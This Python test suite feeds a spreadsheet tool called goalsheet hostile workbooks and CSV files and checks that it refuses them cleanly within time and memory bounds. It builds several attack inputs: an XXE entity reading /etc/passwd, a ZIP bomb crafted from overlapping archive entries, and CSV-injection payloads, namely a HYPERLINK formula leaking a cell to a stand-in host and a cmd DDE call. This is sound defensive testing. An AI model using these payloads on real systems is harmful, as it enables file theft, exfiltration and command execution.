#!/usr/bin/env python3
"""The hostile-input suite: builds every case of issue 14 (and the ones the reader already handled) in a
scratch folder, runs goalsheet on each under an address-space cap, and asserts the exit status, the
error's kind and message, that nothing was lost or left behind, and bounds on wall time and peak RSS.

  hostile.py --bin .build/release/goalsheet            every case (make test-hostile)
  hostile.py --bin .build/debug/goalsheet --light      the cases that take under a second (make test)

Inputs from ../shared/hostile are copied, never touched. Exit status 1 when a case fails."""
import argparse, gzip, os, random, shutil, signal, stat, subprocess, sys, tempfile, time, zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SHARED = os.path.join(os.path.dirname(ROOT), "shared", "hostile")
COMPANY = os.path.join(ROOT, "samples", "nexbridge_company_okr.xlsx")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

def workbook(path, sheet_xml, sst=None, sheets=None, content_types=None, sheet_target="worksheets/sheet1.xml", extra=(), sheet_xml_whole=None):
    """A minimal workbook; `sheet_xml` is the <sheetData> content."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", content_types or
                   '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{sheets or chr(60) + "sheet name=" + chr(34) + "目標" + chr(34) + " sheetId=" + chr(34) + "1" + chr(34) + " r:id=" + chr(34) + "rId1" + chr(34) + "/>"}</sheets></workbook>')
        rels = f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="{sheet_target}"/>'
        if sst is not None:
            rels += f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
        if any(name == "xl/styles.xml" for name, _ in extra):
            rels += f'<Relationship Id="rId3" Type="{REL}/styles" Target="styles.xml"/>'
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml_whole or f'<worksheet xmlns="{MAIN}"><sheetData>{sheet_xml}</sheetData></worksheet>')
        if sst is not None:
            z.writestr("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}">' + "".join(f"<si><t>{t}</t></si>" for t in sst) + "</sst>")
        for name, data in extra:
            z.writestr(name, data)

GOAL_ROWS = ('<row r="1"><c r="A1" t="inlineStr"><is><t>目標</t></is></c><c r="B1" t="inlineStr"><is><t>目標値</t></is></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>新規契約社数</t></is></c><c r="B2"><v>100</v></c></row>')

def noise(n):
    """n bytes of text that deflate cannot shrink much (so the ratio bound is not what stops it)."""
    rnd = random.Random(n)
    return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

class Case:
    def __init__(self, name, build, argv, rc, stderr=(), seconds=5, mib=128, heavy=False, check=None, absent=()):
        self.name, self.build, self.argv, self.rc, self.absent = name, build, argv, rc, absent
        self.stderr, self.seconds, self.mib, self.heavy, self.check = stderr, seconds, mib, heavy, check

def cases():
    c = []
    def add(*a, **k): c.append(Case(*a, **k))

    # --- One diagnostics printer: every command says `goalsheet: error: FILE: …`, naming the file once.
    def truncated(d):
        with open(f"{d}/in.xlsx", "wb") as f:
            f.write(b"PK\x03\x04truncated")
    for command in (["cat"], ["inspect"], ["annotate", "--company", COMPANY, "--as-of", "2026-03-31"], ["normalize", "--out", "{d}/out"]):
        add(f"one_printer_{command[0]}", truncated, command + ["{d}/in.xlsx"], 1 if command[0] == "cat" else 3,
            ["goalsheet: error: {d}/in.xlsx: not a ZIP archive"], absent=["{d}/in.xlsx: {d}/in.xlsx", "\nerror:", "Error:"])
    add("one_printer_usage", None, ["analyze", "--company", "{d}/missing.xlsx", "--out", "{d}/out"], 2,
        ["goalsheet: error: --company {d}/missing.xlsx: no such file\nUsage: goalsheet analyze"], absent=["Error:"])

    # --- Size bounds: over-limit, named, flat memory.
    add("cell_value_over_1mib", lambda d: workbook(f"{d}/in.xlsx", '<row r="1"><c r="C7"><v>' + "1" * (3 << 20) + "</v></c></row>"),
        ["cat", "{d}/in.xlsx"], 1, ["cell C7", "its value is over 1 MiB", "limits.max_cell_bytes"])
    add("inline_string_incompressible_3mib", lambda d: workbook(f"{d}/in.xlsx", GOAL_ROWS + '<row r="3"><c r="A3" t="inlineStr"><is><t>' + noise(3 << 20) + "</t></is></c></row>"),
        ["analyze", "--company", COMPANY, "{d}/in.xlsx", "--as-of", "2026-03-31", "--out", "{d}/out"], 3, ["cell A3", "its text is over 1 MiB"],
        check=lambda d: not os.path.exists(f"{d}/out/annotated/in.annotated.xlsx") or "annotated a refused file")
    add("shared_string_incompressible_3mib", lambda d: workbook(f"{d}/in.xlsx", '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', sst=["目標", noise(3 << 20)]),
        ["cat", "{d}/in.xlsx"], 1, ["xl/sharedStrings.xml", "shared string item 2 holds more than 1 MiB"])
    add("formula_over_1mib", lambda d: workbook(f"{d}/in.xlsx", '<row r="1"><c r="B1"><f>' + noise(2 << 20) + "</f><v>1</v></c></row>"),
        ["cat", "{d}/in.xlsx"], 1, ["cell B1", "its formula is over 1 MiB"])
    add("csv_field_over_1mib", lambda d: open(f"{d}/in.csv", "w").write("部署,目標\n営業部," + "A" * (2 << 20) + "\n"),
        ["cat", "{d}/in.csv"], 1, ["line 2", "field 2 of the record on line 2 is over 1 MiB"])
    def sparse_csv(d):
        with open(f"{d}/in.csv", "wb") as f:
            f.write("部署,目標\n".encode()); f.truncate(1 << 30)
    add("csv_1gib_file", sparse_csv, ["cat", "{d}/in.csv"], 1, ["the file is 1 GiB, over the 256 MiB GoalSheet reads as CSV"], seconds=2, mib=64)
    add("reproducer_cell_value_1100mb", lambda d: shutil.copy(f"{SHARED}/cell_value_1100mb/v_1100mb_digits.xlsx", f"{d}/in.xlsx"),
        ["cat", "{d}/in.xlsx"], 1, ["xl/worksheets/sheet1.xml", "inflates 1028-fold (over 1000, limits.max_ratio)"], mib=64)
    add("reproducer_shared_string_3gb", lambda d: shutil.copy(f"{SHARED}/shared_string_3gb/sst_one_3gb_string.xlsx", f"{d}/in.xlsx"),
        ["cat", "{d}/in.xlsx"], 1, ["xl/sharedStrings.xml", "limits.max_ratio"], mib=64)
    add("reproducer_inline_string_100mb", lambda d: shutil.copy(f"{SHARED}/inline_string_100mb_analyze/string_100mb_inline.xlsx", f"{d}/in.xlsx"),
        ["analyze", "--company", COMPANY, "{d}/in.xlsx", "--as-of", "2026-03-31", "--out", "{d}/out"], 3, ["limits.max_ratio"], mib=128)
    def csv_1gb_line(d):
        with open(f"{d}/in.csv", "wb") as f:
            f.write("部署,目標\n".encode())
            for _ in range(16): f.write(b"A" * (16 << 20))
    add("csv_256mib_single_line", csv_1gb_line, ["cat", "{d}/in.csv"], 1, ["the file is 256 MiB"], heavy=True, seconds=5, mib=64)

    # --- ZIP bombs and work per file.
    add("reproducer_overlapping_entries", lambda d: shutil.copy(f"{SHARED}/hang_overlapping_entries/bomb_overlap_sameoffset.xlsx", f"{d}/in.xlsx"),
        ["cat", "--all-sheets", "{d}/in.xlsx"], 1, ["inflates 1027-fold (over 1000, limits.max_ratio)"], mib=64)
    add("overlapping_entries_low_ratio", _overlapping, ["cat", "--all-sheets", "{d}/in.xlsx"], 1,
        ["xl/worksheets/sheet2.xml: shares its bytes with entry xl/worksheets/sheet1.xml (overlapping entries, a ZIP bomb)"], mib=64)
    add("reproducer_10k_sheets", lambda d: shutil.copy(f"{SHARED}/hang_10k_sheets_analyze/sheets_10k.xlsx", f"{d}/in.xlsx"),
        ["analyze", "--company", COMPANY, "{d}/in.xlsx", "--as-of", "2026-03-31", "--out", "{d}/out"], 3, ["lists 10000 sheets (more than 1000, limits.max_sheets)"], mib=128)
    def entries_65535(d):
        with gzip.open(f"{SHARED}/writer_over_65535_entries/entries_65535.xlsx.gz") as g, open(f"{d}/in.xlsx", "wb") as o:
            shutil.copyfileobj(g, o)
    def zip64_written(d):
        z = zipfile.ZipFile(f"{d}/a.xlsx")
        return len(z.namelist()) > 65535 and z.testzip() is None or "the annotated workbook is not a complete ZIP64 archive"
    add("writer_over_65535_entries", entries_65535, ["annotate", "--company", COMPANY, "{d}/in.xlsx", "--as-of", "2026-03-31", "--out", "{d}/a.xlsx"], 0,
        heavy=True, seconds=30, mib=1024, check=zip64_written)

    # --- Files that are not what they say.
    add("fifo_named_xlsx", lambda d: os.mkfifo(f"{d}/in.xlsx"), ["cat", "{d}/in.xlsx"], 1, ["in.xlsx: is a FIFO (named pipe), not a file; it was not opened"], seconds=2, mib=64)
    def fifo_in_folder(d):
        os.mkdir(f"{d}/dept"); os.mkfifo(f"{d}/dept/pipe.xlsx"); workbook(f"{d}/dept/営業部.xlsx", GOAL_ROWS)
    add("fifo_in_a_folder", fifo_in_folder, ["normalize", "{d}/dept", "--out", "{d}/out"], 0, ["pipe.xlsx", "skipped"], seconds=5, mib=128,
        check=lambda d: "新規契約社数" in open(f"{d}/out/goals.csv", encoding="utf-8-sig").read() or "the readable file was not read")
    add("directory_named_xlsx", lambda d: os.mkdir(f"{d}/in.xlsx"), ["cat", "{d}/in.xlsx"], 1, ["in.xlsx: is a folder, not a file; it was not opened"], mib=64)
    add("xlsb_with_content_types", _xlsb,
        ["cat", "{d}/in.xlsx"], 1, ["binary workbook (.xlsb"], mib=64)
    add("sheet_relationship_to_the_workbook", lambda d: workbook(f"{d}/in.xlsx", "", sheet_target="workbook.xml"),
        ["cat", "{d}/in.xlsx"], 1, ["has the root <workbook>, not <worksheet>"], mib=64)
    add("doctype_entity", _doctype, ["cat", "{d}/in.xlsx"], 1, ["DOCTYPE"], mib=64)
    add("truncated_zip", lambda d: _truncated(d), ["cat", "{d}/in.xlsx"], 1, ["in.xlsx"], mib=64)
    add("html_as_xlsx", lambda d: open(f"{d}/in.xlsx", "w").write("<html><body><table><tr><td>目標</td></tr></table></body></html>"),
        ["cat", "{d}/in.xlsx"], 1, ["in.xlsx"], mib=64)

    # --- Wrong answers that were silent.
    add("cell_naming_an_earlier_row", lambda d: workbook(f"{d}/in.xlsx", '<row r="1"><c r="A1"><v>1</v></c></row><row r="5"><c r="A5"><v>5</v></c><c r="B1"><v>99</v></c></row>'),
        ["cat", "{d}/in.xlsx"], 1, ["cell B1", "names row 1 inside <row r=\"5\">"], mib=64)
    add("cell_beyond_xfd", lambda d: workbook(f"{d}/in.xlsx", '<row r="1"><c r="XFE1"><v>1</v></c></row>'),
        ["cat", "--format", "json", "{d}/in.xlsx"], 1, ["'XFE1' is not a cell reference"], mib=64)
    def bom_sjis(d):
        open(f"{d}/in.csv", "wb").write(b"\xef\xbb\xbf" + "部署,目標\n営業部,".encode() + "売上".encode("cp932") + b"\n")
    add("bom_then_shift_jis", bom_sjis, ["cat", "{d}/in.csv"], 1, ["line 2, column 5", "not UTF-8"], mib=64)
    def series_rows(d):
        # A text label, then dates (openxmlsdk's NoExtDataA1.xlsx: every row looked like a period header; 43 s).
        rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>項目{r}</t></is></c>' + "".join(f'<c r="{chr(66 + k)}{r}" s="1"><v>{45000 + r + k}</v></c>' for k in range(9)) + "</row>" for r in range(1, 2501))
        workbook(f"{d}/in.xlsx", rows, extra=[("xl/styles.xml", f'<styleSheet xmlns="{MAIN}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>')])
    add("2500_date_rows_normalize", series_rows, ["normalize", "{d}/in.xlsx", "--out", "{d}/out"], 0, seconds=5, mib=128)

    # --- Outputs: never lose, never mix, say why.
    add("unwritable_output", lambda d: open(f"{d}/file", "w").write("x"), ["normalize", os.path.join(ROOT, "samples"), "--out", "{d}/file/out"], 1,
        ["{d}/file/out", "Not a directory"], mib=128)
    def inplace_bak_dir(d):
        shutil.copy(COMPANY, f"{d}/in.xlsx"); os.mkdir(f"{d}/in.xlsx.bak"); open(f"{d}/in.xlsx.bak/keep.txt", "w").write("mine")
        os.chmod(f"{d}/in.xlsx", 0o444)
    def bak_kept(d):
        ok = open(f"{d}/in.xlsx.bak/keep.txt").read() == "mine" and open(f"{d}/in.xlsx.1.bak", "rb").read() == open(COMPANY, "rb").read()
        mode = stat.S_IMODE(os.stat(f"{d}/in.xlsx").st_mode)
        return (ok and mode == 0o444) or f"the backup folder or the original was not kept (mode {oct(mode)})"
    add("inplace_with_bak_directory", inplace_bak_dir, ["annotate", "--company", COMPANY, "{d}/in.xlsx", "--as-of", "2026-03-31", "--in-place"], 0,
        mib=128, check=bak_kept)
    add("csv_injection", lambda d: workbook(f"{d}/in.xlsx", '<row r="1"><c r="A1" t="inlineStr"><is><t>目標</t></is></c><c r="B1" t="inlineStr"><is><t>担当者</t></is></c><c r="C1" t="inlineStr"><is><t>目標値</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>=HYPERLINK("http://x/"&amp;A1,"詳細")</t></is></c><c r="B2" t="inlineStr"><is><t>+cmd|\' /C calc\'!A0</t></is></c><c r="C2"><v>5</v></c></row>'),
        ["normalize", "{d}/in.xlsx", "--out", "{d}/out"], 0, mib=256,
        check=lambda d: ("'=HYPERLINK" in open(f"{d}/out/goals.csv", encoding="utf-8-sig").read()) or "a formula reached goals.csv raw")
    return c

def _doctype(d):
    """A sheet part whose DOCTYPE declares an external entity (XXE)."""
    workbook(f"{d}/in.xlsx", "", sheet_xml_whole='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
             f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>')

def _overlapping(d):
    """Two central-directory records on one local header (sheet2 is sheet1's bytes again)."""
    import struct
    workbook(f"{d}/in.xlsx", GOAL_ROWS, sheets='<sheet name="A" sheetId="1" r:id="rId1"/>')
    b = bytearray(open(f"{d}/in.xlsx", "rb").read())
    eocd = b.rfind(b"PK\x05\x06")
    n, cd_size, cd_off = struct.unpack_from("<HIL", b, eocd + 10)[0], *struct.unpack_from("<II", b, eocd + 12)
    i, record = cd_off, None
    while i < cd_off + cd_size:
        nl, el, cl = struct.unpack_from("<HHH", b, i + 28)
        if b[i + 46:i + 46 + nl] == b"xl/worksheets/sheet1.xml":
            record = bytearray(b[i:i + 46 + nl + el + cl])
        i += 46 + nl + el + cl
    record[46:46 + 24] = b"xl/worksheets/sheet2.xml"
    out = b[:cd_off + cd_size] + record
    tail = bytearray(b[eocd:])
    struct.pack_into("<HHII", tail, 8, n + 1, n + 1, cd_size + len(record), cd_off)
    open(f"{d}/in.xlsx", "wb").write(out + tail)

def _xlsb(d):
    with zipfile.ZipFile(f"{d}/in.xlsx", "w") as z:
        z.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.bin"/></Relationships>')
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")

def _truncated(d):
    data = open(COMPANY, "rb").read()
    open(f"{d}/in.xlsx", "wb").write(data[: len(data) // 2])

def run(case, binary, scratch):
    d = os.path.join(scratch, case.name)
    os.makedirs(d)
    if case.build:
        case.build(d)
    argv = [binary] + [a.replace("{d}", d) for a in case.argv]
    cap = (case.mib + 1536) << 20  # the cap leaves room for the runtime's reservations; RSS is the bound
    # prlimit, not a preexec_fn: without one subprocess spawns by vfork, so the child's peak RSS is its own
    # (a forked child would carry this script's pages into ru_maxrss).
    # GNU time reports the peak RSS of goalsheet alone (a child forked from this script starts with its pages).
    argv = ["prlimit", f"--as={cap}", "--"] + argv
    if os.path.exists("/usr/bin/time"):
        argv = ["/usr/bin/time", "-f", "%M", "-o", f"{d}.rss"] + argv
    start = time.monotonic()
    with open(f"{d}.stdout", "wb") as so, open(f"{d}.stderr", "wb") as se:
        p = subprocess.Popen(argv, stdout=so, stderr=se, cwd=d)
        bound = case.seconds * 3 + 10
        while True:
            pid, status, usage = os.wait4(p.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - start > bound:
                p.kill()
                os.wait4(p.pid, 0)
                return f"still running after {bound} s"
            time.sleep(0.005)
    wall = time.monotonic() - start
    returncode = os.waitstatus_to_exitcode(status)
    rss = usage.ru_maxrss >> 10  # this child's peak, MiB
    if os.path.exists(f"{d}.rss"):
        rss = int(open(f"{d}.rss").read().split()[-1]) >> 10
    err = open(f"{d}.stderr", encoding="utf-8", errors="replace").read()
    p.returncode = returncode
    problems = []
    if p.returncode != case.rc:
        problems.append(f"exit {p.returncode}, expected {case.rc}")
    for s in case.stderr:
        if s.replace("{d}", d) not in err:
            problems.append(f"stderr lacks {s!r}")
    for s in case.absent:
        if s.replace("{d}", d) in err:
            problems.append(f"stderr has {s!r}")
    if p.returncode < 0 or "Fatal error" in err or "Backtracing" in err:
        problems.append("crashed")
    if wall > case.seconds:
        problems.append(f"took {wall:.1f} s (bound {case.seconds} s)")
    if rss > case.mib:
        problems.append(f"peak RSS {rss} MiB (bound {case.mib} MiB)")
    if case.check and not problems:
        verdict = case.check(d)
        if verdict is not True:
            problems.append(str(verdict))
    leftovers = [f for f in os.listdir(d) if f.endswith(".tmp")]
    if leftovers:
        problems.append(f"left temporary files {leftovers}")
    first = err.strip().splitlines()[0] if err.strip() else ""
    return problems, wall, rss, first

def tree(root):
    """Every file under `root` (relative path → bytes), hidden ones included."""
    out = {}
    for base, _, files in os.walk(root):
        for f in files:
            path = os.path.join(base, f)
            out[os.path.relpath(path, root)] = open(path, "rb").read()
    return out

def killed_midway(binary, scratch, points=12):
    """SIGKILL an analyze run at several points: DIR holds the earlier complete run or the new complete
    run, never a mix; the next run cleans the killed run's temporary folder."""
    import json
    d = os.path.join(scratch, "sigkill")
    os.makedirs(d)
    samples = os.path.join(ROOT, "samples")
    argv = lambda as_of: [binary, "analyze", "--company", COMPANY, "--company", os.path.join(samples, "nexbridge_kpi_tree.xlsx"),
                          samples, "--as-of", as_of, "--out", f"{d}/out", "--previous", "remove"]
    subprocess.run(argv("2025-12-31"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
    old = tree(f"{d}/out")
    start = time.monotonic()
    subprocess.run(argv("2026-03-31"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
    duration = time.monotonic() - start
    new = tree(f"{d}/out")
    assert set(old) == set(new) and old["model.json"] != new["model.json"]
    seen = {"old": 0, "new": 0}
    problems = []
    for k in range(points):
        subprocess.run(argv("2025-12-31"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
        p = subprocess.Popen(argv("2026-03-31"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(duration * k / (points - 1) * 2.0)  # the last points land after the run ends
        p.send_signal(signal.SIGKILL)
        p.wait()
        now = tree(f"{d}/out")
        if now == old:
            seen["old"] += 1
        elif set(now) == set(new) and json.loads(now["model.json"])["as_of"] == "2026-03-31" and all(
                zipfile.ZipFile(os.path.join(d, "out", n)).testzip() is None for n in now if n.endswith(".xlsx")):
            seen["new"] += 1
        else:
            problems.append(f"kill {k}: a mix of runs ({sorted(set(now) ^ set(old))})")
    subprocess.run(argv("2026-03-31"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
    stale = [f for f in os.listdir(d) if f.endswith(".tmp")]
    if stale:
        problems.append(f"temporary folders of killed runs left after the next run: {stale}")
    return problems, seen

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default=os.path.join(ROOT, ".build/release/goalsheet"))
    ap.add_argument("--light", action="store_true", help="only the cases that are not marked heavy")
    ap.add_argument("--only", help="run the cases whose name contains this")
    a = ap.parse_args()
    binary = os.path.abspath(a.bin)
    scratch = tempfile.mkdtemp(prefix="goalsheet-hostile-")
    failed = 0
    selected = [c for c in cases() if not (a.light and c.heavy) and (not a.only or a.only in c.name)]
    # Peak RSS is the children's maximum so far: run the light cases first, heaviest last, and read it per case.
    for case in selected:
        result = run(case, binary, scratch)
        if isinstance(result, str):
            failed += 1
            print(f"FAIL {case.name}: {result}")
            continue
        problems, wall, rss, first = result
        mark = "ok  " if not problems else "FAIL"
        failed += bool(problems)
        print(f"{mark} {case.name:40s} {wall:6.2f} s {rss:5d} MiB  {'; '.join(problems) if problems else first[:110]}")
    if not a.only or a.only in "sigkill":
        problems, seen = killed_midway(binary, scratch)
        failed += bool(problems)
        selected.append(None)
        print(f"{'ok  ' if not problems else 'FAIL'} {'sigkill_midway':40s} {seen['old']} kills left the earlier run, {seen['new']} the new one"
              + (f"; {'; '.join(problems)}" if problems else ""))
    shutil.rmtree(scratch, ignore_errors=True)
    print(f"hostile: {len(selected) - failed} of {len(selected)} cases pass")
    sys.exit(1 if failed else 0)

if __name__ == "__main__":
    main()
